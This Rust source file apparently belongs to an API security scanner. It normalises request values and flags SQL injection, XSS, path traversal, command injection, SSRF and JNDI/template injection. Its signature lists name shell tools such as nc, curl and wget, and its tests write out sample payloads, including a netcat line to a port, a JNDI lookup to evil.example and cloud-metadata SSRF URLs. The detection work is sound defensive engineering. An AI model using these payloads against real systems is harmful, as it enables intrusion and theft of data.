//! Injection attempts in request inputs: SQL injection, XSS, path traversal, command injection,
//! SSRF-style URLs and template/JNDI injection. Values are normalised first (repeated
//! percent-decoding, `%uXXXX`, `+`, HTML entities, full-width characters, SQL comments, case),
//! so encoding tricks do not hide a payload; signatures are chosen to leave ordinary text alone
//! (`O'Brien`, `union station`, `select a plan`).

use serde::{Deserialize, Serialize};

/// The kind of injection.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Injection {
    SqlInjection,
    Xss,
    PathTraversal,
    CommandInjection,
    Ssrf,
    TemplateInjection,
}

impl Injection {
    pub fn as_str(self) -> &'static str {
        match self {
            Injection::SqlInjection => "sql_injection",
            Injection::Xss => "xss",
            Injection::PathTraversal => "path_traversal",
            Injection::CommandInjection => "command_injection",
            Injection::Ssrf => "ssrf",
            Injection::TemplateInjection => "template_injection",
        }
    }
}

/// One detected attempt: what, where, and which signature matched (not the whole payload).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Attempt {
    pub kind: Injection,
    pub location: String,
    pub signature: &'static str,
}

/// Longest value inspected.
const MAX_VALUE: usize = 8192;

fn hex(b: u8) -> Option<u8> {
    (b as char).to_digit(16).map(|d| d as u8)
}

/// The character of a `%uXXXX` escape, from the bytes after its `%`; and the bytes after it.
fn unicode_escape(after_percent: &[u8]) -> Option<(char, &[u8])> {
    let [b'u' | b'U', rest @ ..] = after_percent else { return None };
    let (code, rest) = rest.split_first_chunk::<4>()?;
    let code = u32::from_str_radix(std::str::from_utf8(code).ok()?, 16).ok()?;
    Some((char::from_u32(code)?, rest))
}

/// The byte of a `%XX` escape, from the bytes after its `%`; and the bytes after it.
fn hex_escape(after_percent: &[u8]) -> Option<(u8, &[u8])> {
    let [high, low, rest @ ..] = after_percent else { return None };
    Some(((hex(*high)? << 4) | hex(*low)?, rest))
}

/// One round of `%XX` and `%uXXXX` decoding (and `+` as space).
fn percent_round(s: &str) -> String {
    let mut rest = s.as_bytes();
    let mut out = Vec::with_capacity(rest.len());
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        match byte {
            b'%' => {
                if let Some((c, after)) = unicode_escape(rest) {
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                    rest = after;
                } else if let Some((decoded, after)) = hex_escape(rest) {
                    out.push(decoded);
                    rest = after;
                } else {
                    out.push(b'%');
                }
            }
            b'+' => out.push(b' '),
            other => out.push(other),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Decodes until stable (at most three rounds), maps full-width forms and HTML entities to
/// ASCII, lower-cases, turns SQL comments into spaces and collapses whitespace.
pub fn normalize(raw: &str) -> String {
    // Printable ASCII with nothing to decode, no comment and no space (an id with a dash, a
    // version string): only lower-casing changes it, done on the bytes at once.
    let lower_only = raw.len() <= MAX_VALUE
        && raw.bytes().all(|b| b.is_ascii_graphic() && !matches!(b, b'%' | b'+' | b'&'))
        && !raw.contains("/*")
        && !raw.contains("*/");
    if lower_only {
        return raw.to_ascii_lowercase();
    }
    normalize_in_full(raw)
}

fn normalize_in_full(raw: &str) -> String {
    let mut s: String = raw.chars().take(MAX_VALUE).collect();
    // Each step is skipped when its input cannot change it: most values are plain words.
    for _ in 0..3 {
        if !s.contains(['%', '+']) {
            break;
        }
        let next = percent_round(&s);
        if next == s {
            break;
        }
        s = next;
    }
    if s.contains('&') {
        s = s
            .replace("&#39;", "'")
            .replace("&#x27;", "'")
            .replace("&quot;", "\"")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&#60;", "<")
            .replace("&#x3c;", "<")
            .replace("&amp;", "&");
    }
    let mut mapped: String = s
        .chars()
        .map(|c| match c as u32 {
            // Full-width ASCII variants (U+FF01..U+FF5E) and look-alike quotes.
            full_width @ 0xFF01..=0xFF5E => full_width.checked_sub(0xFF01 - 0x21).and_then(char::from_u32).unwrap_or(c),
            0x2018 | 0x2019 | 0x02BC => '\'',
            0x201C | 0x201D => '"',
            _ => c.to_ascii_lowercase(),
        })
        .collect();
    if mapped.contains("/*") || mapped.contains("*/") {
        mapped = mapped.replace("/**/", " ").replace("/*", " ").replace("*/", " ");
    }
    let mut out = String::with_capacity(mapped.len());
    let mut space = false;
    for c in mapped.chars() {
        if c.is_whitespace() {
            if !space {
                out.push(' ');
            }
            space = true;
        } else {
            out.push(c);
            space = false;
        }
    }
    out
}

const SQL: &[&str] = &[
    "' or '1'='1",
    "' or 1=1",
    "\" or 1=1",
    " or 1=1--",
    "' or 'a'='a",
    "') or ('1'='1",
    "' and 1=1",
    "' and '1'='1",
    "union select",
    "union all select",
    "' union",
    "sleep(",
    "benchmark(",
    "waitfor delay",
    "pg_sleep",
    "; drop table",
    "';--",
    "'--",
    "' --",
    "'#",
    "information_schema",
    "extractvalue(",
    "updatexml(",
    "load_file(",
    "into outfile",
    "@@version",
    "' and sleep",
    "1' and '1",
    "order by 1--",
    "xp_cmdshell",
    "having 1=1",
];
const XSS: &[&str] = &[
    "<script",
    "javascript:",
    "onerror=",
    "onload=",
    "onmouseover=",
    "onfocus=",
    "<img src",
    "<svg",
    "<iframe",
    "document.cookie",
    "alert(",
    "<body onload",
    "vbscript:",
    "srcdoc=",
];
const TRAVERSAL: &[&str] = &["../", "..\\", "\0", "....//", "/proc/self/", "..;/"];
/// Sensitive absolute paths: traversal when a value *is* such a path (not when a shell command
/// mentions one, which is command injection).
const ABSOLUTE: &[&str] =
    &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/", "file:///", "c:\\windows", "c:/windows"];
const COMMAND: &[&str] = &[
    "; cat ",
    ";cat ",
    "| cat ",
    "|cat ",
    "; id",
    ";id",
    "| id",
    "$(",
    "`id`",
    "`whoami`",
    "`uname",
    "`ls",
    "`cat ",
    "`sleep",
    "`curl",
    "`wget",
    "`nc ",
    "\ncat ",
    "\nid",
    "${ifs}",
    "|| curl",
    "| curl",
    "&& id",
    "&& cat ",
    "| nc ",
    "|nc ",
    "; nc ",
    "/bin/sh",
    "/bin/bash",
    "| sh",
    "|sh",
    "; ls",
    ";ls",
    "; wget ",
    "; curl ",
    "| whoami",
    "; whoami",
    "&& whoami",
    "; ping ",
    "| ping ",
];
const TEMPLATE: &[&str] =
    &["${jndi:", "{{7*7}}", "${7*7}", "#{7*7}", "<%=", "{{config", "{{self", "${{", "{{''.__class__", "*{7*7}"];
const SSRF_SCHEMES: &[&str] = &["file://", "gopher://", "dict://", "ftp://", "ldap://", "jar:"];
const SSRF_HOSTS: &[&str] = &[
    "169.254.169.254",
    "metadata.google.internal",
    "metadata.azure",
    "localhost",
    "127.",
    "0.0.0.0",
    "[::1]",
    "[::]",
    "10.",
    "192.168.",
    "172.16.",
    "172.17.",
    "172.18.",
    "172.19.",
    "172.2",
    "172.30.",
    "172.31.",
    "100.100.100.200",
];

/// The signature lists searched in one pass over a value, in this order.
const LISTS: [&[&str]; 5] = [SQL, XSS, TRAVERSAL, TEMPLATE, COMMAND];

/// Every signature list in one automaton: a benign value is read once, not once per signature
/// (the per-signature `contains` loop was a fifth of a flow worker's time).
static SIGNATURES: std::sync::LazyLock<crate::signatures::Signatures<5>> =
    std::sync::LazyLock::new(|| crate::signatures::Signatures::new(LISTS, false));

/// Bytes that normalisation acts on: decoding (`%`, `+`, `&` entities), comment markers (`/*`,
/// `*/`, both with a `/`), whitespace and control characters (collapsed to spaces), and
/// anything not ASCII (full-width forms, look-alike quotes).
fn normalisation_trigger(b: u8) -> bool {
    matches!(b, b'%' | b'+' | b'&' | b'/') || b.is_ascii_whitespace() || b.is_ascii_control() || !b.is_ascii()
}

/// Marks that signatures are made of, the rarest in ordinary values (ids, slugs, dates, versions)
/// first: a signature is guarded by the first of these it holds.
const RAREST_FIRST: &[u8] = b"\\`'\"<>;|{}()[]^~!@$=*#,:_.-";

/// Bytes a value must hold to match anything (see [`is_plain`]): those normalisation acts on,
/// and for each signature one byte of its own, the rarest in ordinary values. A signature can
/// only be found in a value holding all of its bytes, so a value with none of these cannot
/// match any; a dash, a hash or a star no longer sends every UUID, SKU or date through the
/// search (each signature with a dash also has a quote or a space). Derived from the lists, so
/// a new signature keeps it true.
static TRIGGERS: std::sync::LazyLock<[bool; 256]> = std::sync::LazyLock::new(|| {
    let mut table = [false; 256];
    for (byte, t) in table.iter_mut().enumerate() {
        *t = normalisation_trigger(u8::try_from(byte).unwrap_or(u8::MAX));
    }
    let all = LISTS.iter().flat_map(|list| list.iter()).chain(ABSOLUTE).chain(SSRF_SCHEMES).chain(&["://"]);
    for signature in all {
        let bytes = signature.as_bytes();
        if bytes.iter().any(|b| normalisation_trigger(*b)) {
            continue;
        }
        let rank = |b: &u8| RAREST_FIRST.iter().position(|r| r == b).unwrap_or(usize::MAX);
        // Every signature has a mark (a test checks it); one of letters and digits only would
        // leave nothing to guard it, so all its bytes would be.
        let guard = bytes.iter().filter(|b| !b.is_ascii_alphanumeric()).min_by_key(|b| rank(b));
        let guards: &[u8] = match guard {
            Some(b) => std::slice::from_ref(b),
            None => bytes,
        };
        for b in guards {
            if let Some(t) = table.get_mut(usize::from(*b)) {
                *t = true;
            }
        }
    }
    table
});

/// True when `raw` cannot hold an attempt (see `TRIGGERS`).
pub(crate) fn is_plain(raw: &str) -> bool {
    let table = &*TRIGGERS;
    raw.bytes().all(|b| !table.get(usize::from(b)).copied().unwrap_or(true))
}

/// The host part of a URL value, if the value is a URL.
fn url_host(value: &str) -> Option<&str> {
    let authority = crate::observation::before_any(value.split_once("://")?.1, b"/?#");
    Some(authority.rsplit('@').next().unwrap_or(authority))
}

/// Parameter names that take a file path: a `file://` or absolute path there is traversal, not SSRF.
fn path_like(location: &str) -> bool {
    let name = location.rsplit('.').next().unwrap_or(location);
    ["path", "file", "filename", "dir", "folder", "doc", "document", "template", "page", "include"]
        .iter()
        .any(|w| crate::observation::ends_with_ignore_ascii_case(name, w))
}

/// Checks one input value (named by `location`).
pub fn inspect(location: &str, raw: &str) -> Vec<Attempt> {
    if is_plain(raw) {
        return Vec::new();
    }
    inspect_any(location, raw)
}

/// [`inspect`] without the shortcut for plain values (the tests check it finds nothing there).
fn inspect_any(location: &str, raw: &str) -> Vec<Attempt> {
    let mut out = Vec::new();
    let v = normalize(raw);
    let path_like = path_like(location);
    let mut add = |kind, signature| out.push(Attempt { kind, location: location.to_string(), signature });
    let [sql, xss, traversal, template, command] = SIGNATURES.first_of_each(&v);
    if let Some(sig) = sql {
        add(Injection::SqlInjection, sig);
    }
    if let Some(sig) = xss {
        add(Injection::Xss, sig);
    }
    // An absolute sensitive path is traversal in a path-like parameter, or when the value is just
    // that path; inside a shell command it is command injection's business.
    let absolute = ABSOLUTE
        .iter()
        .copied()
        .find(|p| (v.starts_with(p) && (path_like || !p.starts_with("file"))) || (path_like && v.contains(p)));
    if let Some(sig) = traversal.or(absolute) {
        add(Injection::PathTraversal, sig);
    }
    if let Some(sig) = template {
        add(Injection::TemplateInjection, sig);
    }
    if let Some(sig) = command {
        // A backtick or `$(` inside a template payload is that payload, not a shell.
        if !(sig == "$(" && v.contains("${")) {
            add(Injection::CommandInjection, sig);
        }
    }
    // SSRF: the value is itself a URL (not a URL mentioned inside a shell command or a template
    // payload) with an internal target or a non-web scheme, and the parameter is not a file path.
    if !path_like {
        if let Some(sig) = SSRF_SCHEMES.iter().copied().find(|s| v.starts_with(s)) {
            add(Injection::Ssrf, sig);
        } else if let Some(host) = url_host(&v).filter(|_| v.starts_with("http://") || v.starts_with("https://")) {
            if let Some(sig) = SSRF_HOSTS.iter().copied().find(|h| host.starts_with(h)) {
                add(Injection::Ssrf, sig);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn printable_ascii_is_normalised_as_the_full_path_does() {
        let mut rng = apisonar_testkit::workload::Rng::seeded(0x2545_f491_4f6c_dd1d);
        let mut random = move |n: usize| usize::try_from(rng.below(n as u64)).unwrap_or(0);
        let pieces = [
            "a", "Z", "7", "-", "_", ".", "/", "*", "/*", "*/", "'", "\"", "<", ">", "%27", "%2", "+", "&lt;", "&#39;",
            " ", "\t", "OR", "Select", "${", "../", "\u{ff07}", "é", "\u{7f}",
        ];
        let mut lower_only = 0;
        for _ in 0..20_000 {
            let value: String = (0..random(12)).filter_map(|_| pieces.get(random(pieces.len())).copied()).collect();
            assert_eq!(normalize(&value), normalize_in_full(&value), "{value:?}");
            lower_only += usize::from(value.bytes().all(|b| b.is_ascii_graphic() && !b"%+&".contains(&b)));
        }
        assert!(lower_only > 1000, "{lower_only}");
    }

    #[test]
    fn plain_values_hold_no_signature() {
        for list in LISTS.iter().chain([ABSOLUTE, SSRF_SCHEMES].iter()) {
            for signature in list.iter() {
                assert!(!is_plain(signature), "{signature:?} would be skipped");
            }
        }
        for plain in ["123", "users", "v1", "Alice", "abcDEF42"] {
            assert!(is_plain(plain), "{plain}");
        }
        // Encodings of payloads are not plain.
        for encoded in ["%27", "a+b", "&lt;", "\u{ff1c}script", "tab\there"] {
            assert!(!is_plain(encoded), "{encoded}");
        }
    }

    #[test]
    fn ids_slugs_and_dates_are_plain_and_plain_values_match_nothing() {
        for plain in
            ["0f8fad5b-d9cb-469f-a165-70867728950e", "SKU-1234", "2024-01-31", "my-blog-post", "#section", "a*b"]
        {
            assert!(is_plain(plain), "{plain}");
        }
        // Values made of signature fragments: whenever one is plain, the search without the
        // shortcut must find nothing in it (else the shortcut would hide an attempt).
        let pieces = [
            "or",
            "1",
            "=",
            "1=1",
            "--",
            "-",
            "union",
            "select",
            "{{7",
            "7}}",
            "*",
            "{",
            "}",
            "$",
            "#",
            "(",
            ")",
            "'",
            ";",
            "id",
            "cat",
            "sleep",
            "@@version",
            "pg",
            "_",
            "sleep",
            "/",
            "etc",
            "passwd",
            ".",
            "..",
            ":",
            "file",
            "javascript",
            "<",
            "script",
            "onerror",
            "jndi",
            "|",
            "`",
            "ls",
            "x",
            " ",
            ",",
            "!",
            "~",
        ];
        let mut rng = apisonar_testkit::workload::Rng::seeded(0x9e37_79b9_7f4a_7c15);
        let mut random = move |n: usize| usize::try_from(rng.below(n as u64)).unwrap_or(0);
        let mut plain = 0;
        for _ in 0..50_000 {
            let value: String = (0..1 + random(8)).filter_map(|_| pieces.get(random(pieces.len())).copied()).collect();
            if is_plain(&value) {
                plain += 1;
                assert_eq!(inspect_any("q", &value), Vec::new(), "{value:?} is plain but holds an attempt");
                assert_eq!(inspect_any("file", &value), Vec::new(), "{value:?} is plain but holds an attempt");
            }
        }
        assert!(plain > 5_000, "{plain}");
    }

    fn kinds(v: &str) -> Vec<Injection> {
        inspect("q", v).into_iter().map(|a| a.kind).collect()
    }

    #[test]
    fn one_pass_search_picks_the_first_signature_of_each_list() {
        let values = [
            "plain words",
            "' or 1=1 union select <script> ../ ${7*7} ; cat /etc/passwd",
            "sleep(5) and pg_sleep and union select",
            "'--'#",
            "$(id) ${jndi:ldap://x} `id`",
            "....//../",
            "",
        ];
        for v in values {
            let naive: Vec<Option<&str>> =
                LISTS.iter().map(|list| list.iter().copied().find(|s| v.contains(s))).collect();
            assert_eq!(SIGNATURES.first_of_each(v).to_vec(), naive, "{v}");
        }
        // A later signature in the text does not win over an earlier one in the list.
        assert_eq!(SIGNATURES.first_of_each("x union select ' or 1=1")[0], Some("' or 1=1"));
    }

    #[test]
    fn multi_byte_characters_anywhere_are_normalised_and_inspected_without_panicking() {
        assert_eq!(normalize("%C3%A9%u20AC%F0%9D%84%9E"), "é€𝄞");
        assert_eq!(normalize("%é%u€%u00é9%"), "%é%u€%u00é9%");
        assert_eq!(kinds("%27%20OR%201%3D1--"), vec![Injection::SqlInjection], "ASCII as before");
        for v in crate::test_values::all() {
            for location in ["request.query.q", "request.form.file", "request.path[0]", &format!("request.json.{v}")] {
                let _ = inspect(location, &v);
            }
            // Percent-encoding its bytes hides nothing: it decodes to the same normal form.
            if !v.contains(['%', '+']) {
                let encoded: String = v.bytes().map(|b| format!("%{b:02X}")).collect();
                assert_eq!(normalize(&encoded), normalize(&v), "{v:?}");
            }
        }
    }

    #[test]
    fn decoding_tricks_are_undone() {
        assert_eq!(normalize("%2527%2520OR%25201%253D1--"), "' or 1=1--");
        assert_eq!(normalize("%u0027+union%2F**%2Fselect"), "' union select");
        assert_eq!(normalize("\u{FF07} OR 1=1"), "' or 1=1");
        assert_eq!(normalize("&lt;ScRiPt&gt;"), "<script>");
        assert_eq!(normalize("a \t\n b"), "a b");
    }

    #[test]
    fn attacks_by_kind() {
        for v in [
            "' OR 1=1--",
            "1' UNION SELECT username,password FROM users--",
            "x' AND SLEEP(5)--",
            "%27%20or%20%271%27%3D%271",
            "1;WAITFOR DELAY '0:0:5'",
        ] {
            assert_eq!(kinds(v), vec![Injection::SqlInjection], "{v}");
        }
        for v in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)",
            "%3Csvg%2Fonload%3Dalert(1)%3E",
        ] {
            assert!(kinds(v).contains(&Injection::Xss), "{v}");
        }
        for v in [
            "../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fwin.ini",
            "....//....//etc/passwd",
            "report.pdf%00.png",
        ] {
            assert!(kinds(v).contains(&Injection::PathTraversal), "{v}");
        }
        for v in ["127.0.0.1; cat /etc/passwd", "x$(id)", "`whoami`", "a | nc 10.0.0.1 4444", "8.8.8.8 && whoami"] {
            assert!(kinds(v).contains(&Injection::CommandInjection), "{v}");
        }
        for v in [
            "http://169.254.169.254/latest/meta-data/",
            "http://localhost:6379/",
            "file:///etc/passwd",
            "gopher://127.0.0.1:25/",
            "http://10.0.0.5/admin",
        ] {
            assert!(kinds(v).contains(&Injection::Ssrf), "{v}");
        }
        for v in ["${jndi:ldap://evil.example/a}", "{{7*7}}", "${7*7}", "#{7*7}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"]
        {
            assert!(kinds(v).contains(&Injection::TemplateInjection), "{v}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for v in [
            "O'Brien",
            "union station",
            "select a plan",
            "rock & roll",
            "order by date",
            "https://www.example.com/products?id=5",
            "price > 10 and < 20",
            "C++ templates",
            "50% off",
            "what's new",
            "e-mail me at bob@example.com",
            "10.5",
            "a/b/c.txt",
            "money $5",
            "{\"a\": 1}",
        ] {
            assert_eq!(kinds(v), vec![], "{v}");
        }
    }
}
